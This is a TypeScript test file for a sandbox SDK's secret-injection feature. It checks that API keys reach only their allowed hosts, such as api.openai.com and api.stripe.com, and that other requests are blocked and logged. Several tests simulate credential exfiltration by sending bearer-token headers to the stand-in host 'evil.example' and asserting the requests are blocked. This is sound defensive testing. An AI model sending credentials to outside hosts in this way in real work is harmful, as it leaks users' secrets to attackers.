// Every example of the reference (sdk-typescript-secrets.md), run as written there apart from
// the import line and the image name, in a real sandbox against the fake internet; after
// each, what the destinations received is checked. Fragments of the reference (a lone
// `.secret(…)`) are placed in a builder; the reference's code sits between the
// `reference:` and `end` comments.

import { test } from "node:test";
import assert from "node:assert/strict";
import { Sandbox } from "standin";
import type { SandboxEvent } from "standin";
import { VALUES, connections, received, request } from "./fake-internet.js";

/** The destination got exactly one connection for `path`, for `host`, carrying `value`. */
function assertSubstituted(path: string, host: string, value: string): void {
  const got = received(path);
  assert.equal(got.length, 1, `one request for ${path}: ${JSON.stringify(got)}`);
  assert.equal(got[0].sni, host);
  assert.ok(got[0].text.includes(value), `${host} did not get the value: ${got[0].text}`);
  assert.ok(!got[0].text.includes("$MSB_"), `${host} got a placeholder: ${got[0].text}`);
}

/** A blocked request: no answer, and no destination saw any of it. */
function assertBlocked(r: { status: string; path: string }): void {
  assert.equal(r.status, "000", "the request was answered");
  assert.deepEqual(received(r.path), [], "a destination saw the blocked request");
}

/** No connection to `sni` ever carried one of the real values. */
function assertNeverGotAValue(sni: string): void {
  for (const c of connections().filter((c) => c.sni === sni)) {
    for (const v of Object.values(VALUES)) assert.ok(!c.data.includes(v), `${sni} got a value`);
  }
}

test("typical flow: the agent's own request gets the key, only for api.openai.com", async () => {
  // reference: Typical flow
  await using sb = await Sandbox.builder("agent")
    .image("registry.test:5000/python")
    .secret((s) =>
      s.env("OPENAI_API_KEY")              // guest sees $MSB_OPENAI_API_KEY
        .value(process.env.OPENAI_API_KEY!)
        .allowHost("api.openai.com"),      // real value only reaches this host
    )
    .create();

  // In the guest, the placeholder is swapped for the real key
  // only on TLS connections to api.openai.com.
  const out = await sb.exec("python", ["agent.py"]);
  // end

  // agent.py (in the image) calls https://api.openai.com/v1/chat/completions with the key.
  assert.equal(out.code, 0, out.stderrText());
  assert.equal(out.stdoutText(), "200");
  assertSubstituted("/v1/chat/completions", "api.openai.com", VALUES.OPENAI_API_KEY);
  const env = await sb.exec("sh", ["-c", 'printf %s "$OPENAI_API_KEY"']);
  assert.equal(env.stdoutText(), "$MSB_OPENAI_API_KEY");
  assertBlocked(await request(sb, "evil.example", "Authorization: Bearer $OPENAI_API_KEY"));
  assertNeverGotAValue("evil.example");
});

test("SecretBuilder.allowHost: each allowed host gets the key, no other", async () => {
  await using sb = await Sandbox.builder("payments")
    .image("registry.test:5000/python")
    // reference: SecretBuilder.allowHost example
    .secret((s) =>
      s.env("STRIPE_KEY")
        .value(process.env.STRIPE_KEY!)
        .allowHost("api.stripe.com")
        .allowHost("files.stripe.com"),
    )
    // end
    .create();

  for (const host of ["api.stripe.com", "files.stripe.com"]) {
    const r = await request(sb, host, "Authorization: Bearer $STRIPE_KEY");
    assert.equal(r.status, "200");
    assertSubstituted(r.path, host, VALUES.STRIPE_KEY);
  }
  assertBlocked(await request(sb, "api.openai.com", "Authorization: Bearer $STRIPE_KEY"));
});

test("SecretBuilder.onViolation: passthrough host gets the placeholder, others are blocked and logged", async () => {
  let violation: (e: SandboxEvent) => void = () => {};
  const logged = new Promise<SandboxEvent>((resolve) => (violation = resolve));
  await using sb = await Sandbox.builder("agent")
    .image("registry.test:5000/python")
    // reference: SecretBuilder.onViolation example
    .secret((s) =>
      s.env("API_KEY")
        .value(process.env.API_KEY!)
        .allowHost("api.github.com")
        .onViolation((v) =>
          v.blockAndLog().passthroughHost("api.anthropic.com"),
        ),
    )
    // end
    .network((n) => n.onEvent((e) => e.kind === "secret-violation" && violation(e)))
    .create();

  const github = await request(sb, "api.github.com", "Authorization: token $API_KEY");
  assert.equal(github.status, "200");
  assertSubstituted(github.path, "api.github.com", VALUES.API_KEY);

  const anthropic = await request(sb, "api.anthropic.com", "X-Trace: $API_KEY");
  assert.equal(anthropic.status, "200");
  const [got] = received(anthropic.path);
  assert.equal(got.sni, "api.anthropic.com");
  assert.ok(got.text.includes("x-trace: $MSB_API_KEY"), got.text);
  assertNeverGotAValue("api.anthropic.com");

  assertBlocked(await request(sb, "evil.example", "Authorization: Bearer $API_KEY"));
  const event = await logged;
  assert.equal(event.action, "block-and-log");
  assert.equal(event.secret, "API_KEY");
  assert.equal(event.sni, "evil.example");
  assert.ok(!JSON.stringify(event).includes(VALUES.API_KEY));
});

test("SandboxBuilder.secret: host pattern, headers on, query off", async () => {
  // reference: SandboxBuilder.secret example
  await using sb = await Sandbox.builder("payments-worker")
    .image("registry.test:5000/python")
    .secret((s) =>
      s.env("STRIPE_KEY")
        .value(process.env.STRIPE_KEY!)
        .allowHost("api.stripe.com")
        .allowHostPattern("*.stripe.com")
        .injectHeaders(true)
        .injectQuery(false),
    )
    .create();
  // end

  for (const host of ["api.stripe.com", "files.stripe.com"]) {
    const r = await request(sb, host, "Authorization: Bearer $STRIPE_KEY");
    assert.equal(r.status, "200");
    assertSubstituted(r.path, host, VALUES.STRIPE_KEY);
  }
  // Query injection is off: the allowed host gets the placeholder there, never the value.
  const q = await request(sb, "api.stripe.com", "X-Probe: 1", { query: "key=$STRIPE_KEY" });
  assert.equal(q.status, "200");
  const [got] = received(q.path);
  assert.ok(got.text.includes("?key=$MSB_STRIPE_KEY"), got.text);
  assert.ok(!got.text.includes(VALUES.STRIPE_KEY), got.text);
});

test("SandboxBuilder.secretEnv: the three-argument shorthand", async () => {
  // reference: SandboxBuilder.secretEnv example
  await using sb = await Sandbox.builder("agent")
    .image("registry.test:5000/python")
    .secretEnv("OPENAI_API_KEY", process.env.OPENAI_API_KEY!, "api.openai.com")
    .create();
  // end

  const r = await request(sb, "api.openai.com", "Authorization: Bearer $OPENAI_API_KEY");
  assert.equal(r.status, "200");
  assertSubstituted(r.path, "api.openai.com", VALUES.OPENAI_API_KEY);
  // Basic auth is on by default: the decoded credentials are substituted and re-encoded.
  const basic = await sb.exec("sh", [
    "-c",
    `curl -sS -m 5 -o /dev/null -w '%{http_code}' -u "user:$OPENAI_API_KEY" https://api.openai.com/basic-ts`,
  ]);
  assert.equal(basic.stdoutText(), "200");
  const encoded = Buffer.from(`user:${VALUES.OPENAI_API_KEY}`).toString("base64");
  assert.ok(received("/basic-ts")[0].text.includes(`Basic ${encoded}`));
  assertBlocked(await request(sb, "evil.example", "Authorization: Bearer $OPENAI_API_KEY"));
});

test("NetworkBuilder.secret: the same secret through the network builder", async () => {
  // reference: NetworkBuilder.secret example
  await using sb = await Sandbox.builder("agent")
    .image("registry.test:5000/python")
    .network((n) =>
      n.secret((s) =>
        s.env("OPENAI_API_KEY")
          .value(process.env.OPENAI_API_KEY!)
          .allowHost("api.openai.com"),
      ),
    )
    .create();
  // end

  const r = await request(sb, "api.openai.com", "Authorization: Bearer $OPENAI_API_KEY");
  assert.equal(r.status, "200");
  assertSubstituted(r.path, "api.openai.com", VALUES.OPENAI_API_KEY);
  assertBlocked(await request(sb, "api.github.com", "Authorization: Bearer $OPENAI_API_KEY"));
});

test("NetworkBuilder.onSecretViolation: blockAndLog keeps the sandbox running", async () => {
  // reference: NetworkBuilder.onSecretViolation example
  await using sb = await Sandbox.builder("agent")
    .image("registry.test:5000/python")
    .network((n) =>
      n.secretEnvSimple("OPENAI_API_KEY", process.env.OPENAI_API_KEY!, "api.openai.com")
        .onSecretViolation((v) => v.blockAndLog()),
    )
    .create();
  // end

  assertBlocked(await request(sb, "evil.example", "Authorization: Bearer $OPENAI_API_KEY"));
  // Still running, and the allowed host still gets the key.
  const r = await request(sb, "api.openai.com", "Authorization: Bearer $OPENAI_API_KEY");
  assert.equal(r.status, "200");
  assertSubstituted(r.path, "api.openai.com", VALUES.OPENAI_API_KEY);
  assert.equal(sb.terminatedByViolation, false);
});
